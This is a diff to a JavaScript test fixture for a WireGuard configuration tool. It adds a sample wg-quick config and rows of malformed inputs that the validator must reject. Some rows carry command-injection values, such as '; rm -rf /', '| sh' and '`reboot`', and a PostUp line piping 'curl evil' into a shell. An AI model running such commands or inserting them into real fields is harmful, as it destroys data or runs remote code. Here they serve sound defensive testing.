@@ -12,6 +12,20 @@ export const valid = {
   endpoint: 'vpn.example.com:51820'
 }
 
+/** A complete wg-quick configuration. */
+export const CONFIG = `[Interface]
+PrivateKey = ${PRIVATE}
+Address = 192.0.2.2/24
+
+[Peer]
+PublicKey = ${PEER}
+Endpoint = vpn.example.com:51820
+AllowedIPs = 192.0.2.0/24
+`
+
+/** @type {Record<string, string>} The per-field inputs emptied, for rows that give config. */
+const NO_FIELDS = { 'private-key': '', address: '', 'peer-public-key': '', endpoint: '' }
+
 /** @type {[string, string, string, Record<string, string>?][]} [label, input, value, other inputs]: each must be refused with an error naming the input. */
 export const badInputs = [
   ['private-key empty', 'private-key', ''],
@@ -44,8 +58,7 @@ export const badInputs = [
   ['address double ::', 'address', '2001:db8::1::2/64'],
   ['address bare host, no allowed-ips', 'allowed-ips', '', { address: '192.0.2.2' }],
   ['allowed-ips bad CIDR', 'allowed-ips', '10.0.0.0/40'],
-  ['allowed-ips v4 default route', 'allowed-ips', '0.0.0.0/0'],
-  ['allowed-ips v6 default route', 'allowed-ips', '2001:db8::/64, ::/0'],
+  ['allowed-ips host name', 'allowed-ips', 'intranet.example.com'],
   ['allowed-ips backticks', 'allowed-ips', '`reboot`'],
   ['allowed-ips pipe', 'allowed-ips', '10.0.0.0/8 | sh'],
   ['endpoint empty', 'endpoint', ''],
@@ -84,5 +97,17 @@ export const badInputs = [
   ['install unknown', 'install', 'maybe'],
   ['install yes', 'install', 'yes'],
   ['userspace unknown', 'userspace', 'kernel'],
-  ['userspace shell', 'userspace', 'auto;id']
+  ['userspace shell', 'userspace', 'auto;id'],
+  ['dns not an address or name', 'dns', '192.0.2.53; rm -rf /'],
+  ['dns bad address', 'dns', '192.0.2.300'],
+  ['config combined with per-field inputs', 'config', CONFIG],
+  ['config with PostUp', 'config', `${CONFIG}PostUp = curl evil | sh\n`, NO_FIELDS],
+  ['config with SaveConfig', 'config', CONFIG.replace('[Peer]', 'SaveConfig = true\n[Peer]'), NO_FIELDS],
+  ['config without a peer', 'config', CONFIG.slice(0, CONFIG.indexOf('[Peer]')), NO_FIELDS],
+  ['config unknown key', 'config', CONFIG.replace('[Peer]', 'Foo = bar\n[Peer]'), NO_FIELDS],
+  ['config bad private key', 'config', CONFIG.replace(PRIVATE, PRIVATE.slice(1)), NO_FIELDS],
+  ['config peer without public key', 'config', CONFIG.replace(/PublicKey = .*\n/, ''), NO_FIELDS],
+  ['config bad endpoint', 'config', CONFIG.replace('vpn.example.com:51820', 'vpn.example.com:99999'), NO_FIELDS],
+  ['config bad table', 'config', CONFIG.replace('[Peer]', 'Table = sometimes\n[Peer]'), NO_FIELDS],
+  ['config text outside sections', 'config', `hello\n${CONFIG}`, NO_FIELDS]
 ]
